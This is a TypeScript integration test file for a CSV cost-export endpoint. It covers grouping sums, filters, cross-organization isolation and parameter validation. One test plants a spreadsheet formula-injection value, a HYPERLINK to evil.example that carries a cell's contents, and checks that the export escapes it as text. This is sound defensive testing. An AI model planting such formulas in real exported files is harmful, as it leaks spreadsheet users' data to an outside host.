import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { after, before, describe, test } from 'node:test';
import { parse } from 'csv-parse/sync';
import { createOrgWithKeys, startTestApp, type GqlResult, type TestApp } from '../support/app.js';
import { fixturePath } from '../support/fixtures.js';
import { readRawCsv, scaled, sumBy } from '../ingest/costs/support/raw-csv.js';
import { insertCost } from '../support/spend.js';

const FOCUS = fixturePath('focus-sample', 'focus_sample.csv');
const focus = readRawCsv(FOCUS);

describe('GET /export/costs.csv: the costs query as CSV for notebooks', () => {
  let t: TestApp;
  let a: Awaited<ReturnType<typeof createOrgWithKeys>>;
  let b: Awaited<ReturnType<typeof createOrgWithKeys>>;
  const get = (query: string, key?: string) => fetch(`${t.url}/export/costs.csv?${query}`, { headers: key ? { authorization: `Bearer ${key}` } : {} });
  const csv = async (query: string, key: string) => {
    const res = await get(query, key);
    assert.equal(res.status, 200, await res.clone().text());
    assert.match(res.headers.get('content-type') ?? '', /^text\/csv/);
    return parse(await res.text(), { columns: true }) as Record<string, string>[];
  };

  before(async () => {
    t = await startTestApp();
    a = await createOrgWithKeys(t.db, 'export-a');
    b = await createOrgWithKeys(t.db, 'export-b');
    const res = await fetch(`${t.url}/import/costs?format=focus&fileName=focus.csv`, { method: 'POST', headers: { authorization: `Bearer ${a.analyst}` }, body: readFileSync(FOCUS) });
    assert.equal(res.status, 200, await res.text());
  });
  after(() => t.close());

  test('rows per day and service equal the GraphQL groups and an independent sum of the file', async () => {
    const rows = await csv('groupBy=DAY,SERVICE', a.viewer);
    assert.deepEqual(Object.keys(rows[0]), ['day', 'service', 'currency', 'amount', 'rows']);
    const expected = sumBy(focus.records, (r) => `${r.ChargePeriodStart.slice(0, 10)}|${r.ServiceName}|${r.BillingCurrency}`, (r) => r.BilledCost);
    const got = new Map(rows.map((r) => [`${r.day}|${r.service}|${r.currency}`, scaled(r.amount)]));
    assert.equal(got.size, rows.length, 'one row per group');
    assert.deepEqual([...got.entries()].sort(), [...expected.entries()].sort());
    assert.equal(rows.reduce((n, r) => n + Number(r.rows), 0), focus.records.length);

    const gql: GqlResult = await t.gql(`{ costs(groupBy: [{ dimension: DAY }, { dimension: SERVICE }], first: 500) { pageInfo { hasNextPage } edges { node { keys { day service } amount { amount currency } } } } }`, {}, a.viewer);
    assert.equal(gql.data!.costs.pageInfo.hasNextPage, false, JSON.stringify(gql.errors));
    const nodes = gql.data!.costs.edges.map((e: { node: { keys: { day: string; service: string | null }; amount: { amount: string; currency: string } } }) => e.node);
    assert.deepEqual(
      rows.map((r) => [r.day, r.service, r.currency, r.amount]),
      nodes.map((n: { keys: { day: string; service: string | null }; amount: { amount: string; currency: string } }) => [n.keys.day, n.keys.service ?? '', n.amount.currency, n.amount.amount]),
      'same groups, same order, same sums as the GraphQL query',
    );
  });

  test('filters: a window, a service list and a tag', async () => {
    const services = [...new Set(focus.records.map((r) => r.ServiceName))].slice(0, 2);
    const rows = await csv(`from=2024-09-10T00:00:00Z&to=2024-09-20T00:00:00Z&service=${encodeURIComponent(services.join(','))}`, a.viewer);
    const inFilter = focus.records.filter((r) => r.ChargePeriodStart >= '2024-09-10' && r.ChargePeriodStart < '2024-09-20' && services.includes(r.ServiceName));
    assert.ok(inFilter.length > 0);
    assert.deepEqual(rows.map((r) => [r.currency, scaled(r.amount)]), [...sumBy(inFilter, (r) => r.BillingCurrency, (r) => r.BilledCost).entries()].sort());
    const none = await csv('tag.no-such-tag=x', a.viewer);
    assert.deepEqual(none, []);
  });

  test('a tag value a spreadsheet would run as a formula is written as text; a negative amount stays a number', async () => {
    const c = await createOrgWithKeys(t.db, 'export-c');
    await insertCost(t.db.db, c.org.id, { day: new Date('2025-01-10T00:00:00Z'), amount: '-1.5', tags: { owner: '=HYPERLINK("http://evil.example/?"&A1,"x")', team: '@SUM(1+1)' } });
    const rows = await csv('groupBy=TAG:owner,TAG:team', c.viewer);
    assert.deepEqual(rows, [{ 'tag:owner': `'=HYPERLINK("http://evil.example/?"&A1,"x")`, 'tag:team': "'@SUM(1+1)", currency: 'USD', amount: '-1.5', rows: '1' }]);
  });

  test('another organization gets only the header; no key is 401; a bad dimension or date is a 400 naming it', async () => {
    const res = await get('groupBy=DAY', b.viewer);
    assert.equal((await res.text()).trim(), 'day,currency,amount,rows');
    assert.equal((await get('groupBy=DAY')).status, 401);
    const bad = await get('groupBy=DAY,PLANET', a.viewer);
    assert.equal(bad.status, 400);
    assert.match(((await bad.json()) as { error: { message: string } }).error.message, /groupBy\.1.*PLANET/);
    const date = await get('from=yesterday', a.viewer);
    assert.equal(date.status, 400);
    assert.match(((await date.json()) as { error: { message: string } }).error.message, /from/);
  });

  test('an unknown, keyless, repeated or empty parameter is a 400 naming it, not the whole organization', async () => {
    const refused = async (query: string, name: string) => {
      const res = await get(query, a.viewer);
      const text = await res.text();
      assert.equal(res.status, 400, `${query}: ${text}`);
      const error = (JSON.parse(text) as { error: { code: string; message: string } }).error;
      assert.equal(error.code, 'BAD_USER_INPUT', query);
      assert.ok(error.message.startsWith(`${name}: `), `${query}: ${error.message}`);
    };
    await refused('groupBy=DAY&projct=P1', 'projct');
    await refused('groupBy=DAY&first=5', 'first');
    await refused('groupBy=DAY&tag.=x', 'tag.');
    await refused('groupBy=DAY&provider=', 'provider');
    await refused('groupBy=DAY&service=,', 'service');
    await refused('groupBy=DAY&from=', 'from');
    await refused('groupBy=', 'groupBy');
    await refused('groupBy=DAY&from=2024-09-01&from=2024-10-01', 'from');
    await refused('groupBy=DAY&tag.project=A&tag.project=B', 'tag.project');
    // every documented parameter still answers
    const all = await get(
      'from=2024-09-01&to=2024-10-01&groupBy=DAY,TAG:project&provider=Microsoft&subAccount=x&resourceGroup=x&service=x&region=x&tag.project=P-001',
      a.viewer,
    );
    assert.equal(all.status, 200, await all.text());
    // a tag's empty value narrows to that value: allowed
    assert.equal((await get('groupBy=DAY&tag.project=', a.viewer)).status, 200);
  });
});
